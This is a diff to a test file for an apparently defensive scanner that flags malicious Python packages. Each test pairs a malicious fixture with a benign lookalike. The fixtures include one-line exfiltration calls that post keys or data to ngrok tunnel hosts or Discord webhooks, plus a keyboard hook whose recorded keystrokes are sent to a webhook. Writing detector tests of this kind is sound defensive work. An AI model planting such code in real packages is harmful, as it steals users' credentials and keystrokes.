@@ -88,6 +88,9 @@ CASES = [
     ("STATIC-DEP-CONFUSION-PROBE",  # ngrok's newer free domain (hexdecli-style key upload)
      (P, "pkg", sdist("pkg", module('import requests\nrequests.post("https://a-b-c.ngrok-free.dev/tron", [key])'))),
      (P, "pkg", sdist("pkg", module('TUNNEL_DOCS = "https://ngrok.com/docs/getting-started"')))),
+    ("STATIC-DEP-CONFUSION-PROBE",  # a wildcard in a CSP allow-list (coinley-pay's bundle) names no host
+     (P, "pkg", sdist("pkg", module('import requests\nrequests.get("https://k3j2.ngrok-free.app/p?d=" + data)'))),
+     (P, "pkg", sdist("pkg", module('CSP = ["https://*.vercel.app", "https://*.ngrok-free.app", "https://*.pages.dev"]')))),
     ("STATIC-WEBHOOK-EXFIL",
      (P, "pkg", sdist("pkg", module('import requests\nrequests.post("https://discord.com/api/webhooks/123456/abcdef", json=d)'))),
      (P, "pkg", sdist("pkg", module('DOCS = "https://discord.com/developers/docs/resources/webhook"')))),
@@ -303,3 +306,15 @@ def test_rule_fires_on_malicious_and_not_on_lookalike(judged, rule, malicious, b
             assert finding["evidence"]["excerpt"]
     good = _judge(judged, benign)
     assert rule not in good["rules_fired"], good["findings"]
+
+
+def test_a_keyboard_hook_alone_is_a_macro_tool_and_sending_the_keys_is_not(judged):
+    # pytinytask-style recorder: the capability is its purpose
+    hook = ("import keyboard\nEVENTS = []\ndef on_key_event(e):\n    EVENTS.append((e.name, e.time))\n"
+            "def record():\n    keyboard.hook(on_key_event)\n")
+    v = judged(sdist("pkg", module(hook)), P, "pkg")
+    assert "STATIC-KEYLOGGER" in v["rules_fired"] and v["label"] == "benign", v
+    # the same hook whose keys go to a webhook
+    v = judged(sdist("pkg", module(hook + "import requests\ndef flush():\n    requests.post("
+                                   "'https://discord.com/api/webhooks/1/x', json={'k': EVENTS})\n")), P, "pkg")
+    assert v["label"] == "malicious", v
